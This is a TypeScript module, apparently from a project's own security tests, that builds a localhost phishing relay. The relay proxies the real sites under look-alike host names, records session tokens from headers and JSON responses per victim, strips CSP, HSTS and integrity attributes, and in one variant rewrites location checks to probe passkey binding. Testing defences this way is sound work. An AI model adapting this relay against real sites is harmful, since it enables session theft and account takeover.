/**
 * A relay, as phishing kits are: a host of somebody else that shows our real pages, passes every call on, and reads what goes by. It
 * proves what such a page gets (`docs/security-model.md`). `relay.localhost` stands for `localhost`, `api.relay.localhost` for
 * `api.localhost`, and so on for each site.
 */

import { mainSite, sites } from '../../../sites/all.ts';
import { normalizeHost } from '../../domain/site/site.ts';

/**
 * The kits. `careful` has read our scripts: it tells them that they run at our host, and leaves the options of a passkey as they are.
 * `lazy` only replaces names of hosts, as kits do with every page.
 */
export const relayHosts = { careful: 'relay.localhost', lazy: 'lazy-relay.localhost' } as const;
type Kit = keyof typeof relayHosts;

/** Where the relay lists what it got; `?visitor=` is the device id that the victim's page has sent. */
export const lootPath = '/relay/loot.json';

/** A session token that went through the relay. */
export interface Loot {
  readonly token: string;
  /** The call that had it in its answer or in its header. */
  readonly path: string;
}

/** Beyond this number the oldest victims are forgotten. */
const maxVictims = 500;

const realHosts = [mainSite.apiHosts.local, ...sites.flatMap(({ hosts }) => hosts.local)];

/** The kit and the real host that a host of the relay stands for; `undefined` for any other host. */
export function relayedHost(host: string): { readonly kit: Kit; readonly real: string } | undefined {
  for (const [kit, suffix] of Object.entries(relayHosts) as [Kit, string][]) {
    const real = realHosts.find((name) => fakeHost(name, suffix) === host);
    if (real !== undefined) return { kit, real };
  }
  return undefined;
}

/** `tur.localhost` → `tur.relay.localhost`. */
function fakeHost(real: string, suffix: string): string {
  return real.replace(/localhost$/, suffix);
}

/**
 * @param answer answers a request to a real host
 * @returns answers a request to a host of the relay
 */
export function createRelay(answer: (request: Request) => Promise<Response>): (request: Request) => Promise<Response> {
  const loot = new Map<string, Loot[]>();

  function keep(visitor: string, token: string | null | undefined, path: string): void {
    if (!token) return;
    const own = loot.get(visitor) ?? [];
    if (own.some((one) => one.token === token)) return;
    loot.set(visitor, [...own, { token, path }]);
    for (const oldest of loot.keys()) {
      if (loot.size <= maxVictims) break;
      loot.delete(oldest);
    }
  }

  return async (request) => {
    const url = new URL(request.url);
    const relayed = relayedHost(normalizeHost(url.hostname));
    if (relayed === undefined) return new Response('Nothing is relayed here.', { status: 404 });
    if (url.pathname === lootPath) return Response.json(loot.get(url.searchParams.get('visitor') ?? '') ?? []);
    const { kit, real } = relayed;
    const visitor = request.headers.get('guid') ?? '';
    keep(visitor, request.headers.get('usertoken'), url.pathname);

    const response = await answer(await toReal(request, real, kit));
    const headers = new Headers();
    for (const [name, value] of response.headers) {
      if (!droppedHeaders.has(name)) headers.append(name, rename(value, kit));
    }
    const type = headers.get('content-type') ?? '';
    if (!/html|javascript|json|css|text/.test(type)) {
      return new Response(response.body, { status: response.status, headers });
    }
    const text = await response.text();
    if (type.includes('json')) keep(visitor, tokenIn(text), url.pathname);
    const shown = patch(rename(text, kit, type.includes('json')), kit, `${real}${url.port && `:${url.port}`}`);
    return new Response(bodyless.has(response.status) ? null : shown, { status: response.status, headers });
  };
}

const bodyless = new Set([204, 205, 304]);

/** What would stop a page that was changed, and lengths that no longer hold. */
const droppedHeaders = new Set([
  'content-security-policy',
  'content-security-policy-report-only',
  'content-encoding',
  'content-length',
  'etag',
  'strict-transport-security',
]);

/** The request as the victim would have sent it to us. */
async function toReal(request: Request, real: string, kit: Kit): Promise<Request> {
  const url = new URL(request.url);
  url.hostname = real;
  const headers = new Headers();
  for (const [name, value] of request.headers) headers.set(name, realNames(value, kit));
  for (const name of ['host', 'accept-encoding', 'content-length', 'transfer-encoding', 'if-none-match'])
    headers.delete(name);
  const hasBody = request.method !== 'GET' && request.method !== 'HEAD';
  const body = hasBody ? realNames(await request.text(), kit) : null;
  return new Request(url, { method: request.method, headers, body, signal: request.signal });
}

const around = { before: `(?<=["'\`/]|^)`, after: `(?=["'\`:/?#]|$)` };

/** Puts the relay's names in place of ours, where they stand as a text or in an address. */
function rename(text: string, kit: Kit, isJson = false): string {
  return realHosts.reduce((changed, host) => {
    // The careful kit lets the browser try our own RP ID.
    const kept = kit === 'careful' && isJson ? `(?<!"(?:rpId|id)":\\s?")` : '';
    const pattern = new RegExp(kept + around.before + host.replaceAll('.', '\\.') + around.after, 'g');
    return changed.replace(pattern, fakeHost(host, relayHosts[kit]));
  }, text);
}

function realNames(text: string, kit: Kit): string {
  return text.replaceAll(relayHosts[kit], 'localhost');
}

/** @param host ours, with its port */
function patch(text: string, kit: Kit, host: string): string {
  const whole = text
    .replace(/ integrity="[^"]*"/g, '')
    .replace(/<meta http-equiv="content-security-policy"[^>]*>/gi, '');
  if (kit === 'lazy') return whole;
  return whole
    .replace(/\blocation\.hostname\b/g, JSON.stringify(host.split(':')[0]))
    .replace(/\blocation\.host\b/g, JSON.stringify(host));
}

/** The session token in an answer of the exchange. */
function tokenIn(text: string): string | undefined {
  try {
    const { token } = JSON.parse(text) as { token?: unknown };
    return typeof token === 'string' ? token : undefined;
  } catch {
    return undefined;
  }
}
